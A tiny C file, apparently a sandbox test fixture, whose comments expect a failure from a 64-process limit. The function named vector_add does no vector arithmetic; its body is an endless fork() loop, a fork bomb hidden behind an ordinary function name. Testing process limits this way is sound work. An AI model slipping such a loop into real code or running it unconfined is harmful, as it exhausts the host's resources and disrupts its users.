// Every process starts two more.
// ends: failed
// because: process_limit limit=64
// suspicion: processes
#include <unistd.h>

#include "vector_add.h"

void vector_add(const float*, const float*, float*, int) {
  for (;;) fork();
}
